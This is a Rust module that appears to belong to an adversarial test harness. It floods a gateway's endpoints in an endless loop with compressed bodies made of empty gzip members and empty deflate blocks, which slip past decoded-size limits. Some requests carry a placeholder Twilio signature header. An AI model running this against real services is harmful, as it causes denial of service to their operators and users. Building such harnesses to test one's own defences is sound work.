//! Encoded bodies that decode to nothing, so that no bound of decoded bytes ends them.

use std::time::Duration;

use reqwest::{Method, RequestBuilder};
use tokio::task::JoinSet;

use super::attacker::Attacker;

/// The number of clients of an attack.
const CLIENTS: usize = 8;
const PAUSE: Duration = Duration::from_millis(5);

/// A member of gzip without content.
const EMPTY_MEMBER: [u8; 20] = [
    0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0,
];
/// A block of deflate without content, which is not the last one.
const EMPTY_BLOCK: [u8; 5] = [0, 0, 0, 0xff, 0xff];
/// A signature of Twilio's form, because the body of a call without one is not read.
const SIGNATURE: (&str, &str) = ("x-twilio-signature", "BwcHBwcHBwcHBwcHBwcHBwcHBwc=");

/// Sends the bodies to some paths in a loop.
async fn send(
    attacker: Attacker,
    paths: &'static [&'static str],
    bytes: usize,
    complete: fn(RequestBuilder, &Attacker) -> RequestBuilder,
) -> anyhow::Result<()> {
    let mut clients = JoinSet::new();
    for _ in 0..CLIENTS {
        let attacker = attacker.clone();
        clients.spawn(async move {
            let bodies = [
                ("gzip", EMPTY_MEMBER.repeat(bytes / EMPTY_MEMBER.len())),
                ("deflate", EMPTY_BLOCK.repeat(bytes / EMPTY_BLOCK.len())),
            ];
            loop {
                for path in paths {
                    for (encoding, body) in &bodies {
                        let url = format!("{}{path}", attacker.url);
                        let request = attacker.http.request(Method::POST, url);
                        let request = request.header("content-encoding", *encoding).body(body.clone());
                        // The gateway may close the connection before the body is sent; then its answer cannot be read.
                        let _ = complete(request, &attacker).send().await;
                        tokio::time::sleep(PAUSE).await;
                    }
                }
            }
        });
    }
    // A client ends only by a panic.
    if let Some(Err(error)) = clients.join_next().await {
        return Err(error.into());
    }
    Ok(())
}

/// A megabyte each, without a key.
pub(super) async fn without_a_key(attacker: Attacker) -> anyhow::Result<()> {
    let paths = &["/v1/receipts/twilio", "/sign-in", "/u/x"];
    send(attacker, paths, 1 << 20, |request, _| {
        request
            .header(SIGNATURE.0, SIGNATURE.1)
            .header("content-type", "application/x-www-form-urlencoded")
    })
    .await
}

/// Eight megabytes each, with a key.
pub(super) async fn of_one_key(attacker: Attacker) -> anyhow::Result<()> {
    let paths = &["/v1/events", "/v1/render"];
    send(attacker, paths, 8 << 20, |request, attacker| {
        request
            .bearer_auth(&attacker.key)
            .header("content-type", "application/json")
    })
    .await
}
